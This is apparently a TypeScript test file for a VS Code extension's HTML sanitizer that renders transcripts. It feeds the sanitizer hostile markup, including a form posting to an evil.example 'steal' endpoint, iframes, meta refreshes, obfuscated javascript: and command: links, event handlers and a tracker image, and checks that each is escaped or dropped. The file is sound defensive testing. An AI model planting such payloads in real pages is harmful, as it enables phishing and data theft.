// The reader's HTML rebuild (src/extension/sanitize.ts) on what VS Code's Markdown renderer gives
// for a hostile transcript (it passes HTML in the text through): forms, frames, meta refreshes,
// scripts, command: and javascript: links and a fake "Copy citation" button become visible text or
// go; Markdown's own output (paragraphs, code, lists, tables, web links) stays as it was.
import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import { sanitizeHtml } from '../../src/extension/sanitize';

const tagsOf = (html: string) => [...html.matchAll(/<\/?([a-zA-Z][\w-]*)/g)].map((m) => m[1].toLowerCase());

test('markup written in a transcript reaches the page as text, not as elements', () => {
  const hostile = [
    '<p data-line="0" class="code-line" dir="auto">Click below</p>',
    '<form action="https://evil.example/steal" method="post"><input name="q" value="x"><button type="submit">Send</button></form>',
    '<iframe src="https://evil.example/"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<button class="cite" data-turn="1" data-i="0">Copy citation</button>',
    '<script>alert(1)</script><style>body{display:none}</style>',
    '<a href="command:workbench.action.terminal.new">open</a> <a href="javascript:alert(1)">js</a> <a href="java&#x09;script:alert(1)">tab</a> <a href="&#99;ommand:x">ent</a>',
    '<div onclick="x()" id="turn-3" style="position:fixed">over</div><!-- <button>hidden</button> -->',
    '<object data="x"></object><embed src="x"><link rel="stylesheet" href="x"><base href="https://evil.example/">',
    '<svg><foreignObject><button>Copy citation</button></foreignObject></svg><details open><summary>Copy citation</summary></details>',
    '<p>broken <b onmouseover="x()">bold</b> <img src="https://evil.example/t.png" alt="tracker"> <a href="https://example.com/ok" title="t">web</a> <a href="mailto:a@b.c">mail</a></p>',
  ].join('\n');
  const out = sanitizeHtml(hostile);
  const tags = new Set(tagsOf(out));
  for (const bad of ['form', 'input', 'button', 'iframe', 'meta', 'script', 'style', 'div', 'object', 'embed', 'link', 'base', 'svg', 'foreignobject', 'details', 'summary', 'img']) assert.ok(!tags.has(bad), `<${bad}> reached the page: ${out}`);
  // The elements that reach the page (markup shown as text is escaped, so it has no "<").
  const real = (out.match(/<[a-zA-Z][^>]*>/g) ?? []).join('\n');
  assert.doesNotMatch(real, /\son\w+=/i, 'no event handler attribute');
  assert.doesNotMatch(real, /href="(?!https:\/\/example\.com\/ok"|mailto:)/, 'only web and mail links keep their target');
  assert.doesNotMatch(real, /\sid=|\sstyle=|data-turn|data-i=/);
  assert.doesNotMatch(out, /alert\(1\)<\/script>|body\{display:none\}/, 'scripts and styles go with their content');
  // What the transcript said is still there to read, as text.
  assert.match(out, /&lt;form action=&quot;https:\/\/evil\.example\/steal&quot;/);
  assert.match(out, /&lt;button class=&quot;cite&quot;[^<]*&gt;Copy citation&lt;\/button&gt;/);
  assert.match(out, /&lt;iframe src=/);
  assert.match(out, /\[image: tracker\]/);
  assert.match(out, /<a href="https:\/\/example\.com\/ok" title="t">web<\/a>/);
  assert.match(out, /<b>bold<\/b>/);
  assert.match(out, /<p data-line="0" class="code-line" dir="auto">Click below<\/p>/);
});

test("Markdown's own output is kept as it was", () => {
  const md = [
    '<h2 data-line="0" class="code-line" dir="auto" id="plan">Plan</h2>',
    '<ol start="3"><li>one <em>two</em> <strong>three</strong> <code>a &lt;b&gt; c</code></li></ol>',
    '<pre><code class="language-ts">const x = a &lt; b &amp;&amp; c;\n</code></pre>',
    '<table><thead><tr><th style="text-align:right">n</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>',
    '<blockquote><p>q<br>r</p></blockquote><hr><p><del>old</del> <s>x</s> <kbd>K</kbd></p>',
  ].join('\n');
  const out = sanitizeHtml(md);
  assert.equal(out, md.replace(' id="plan"', '').replace(' style="text-align:right"', ''));
});

test('an end tag the text did not open cannot close the page around it; unclosed tags are closed', () => {
  assert.equal(sanitizeHtml('a</section></div><em>b'), 'a&lt;/section&gt;&lt;/div&gt;<em>b</em>');
  assert.equal(sanitizeHtml('x < y > z <3 <<a>'), 'x &lt; y &gt; z &lt;3 &lt;<a></a>');
});
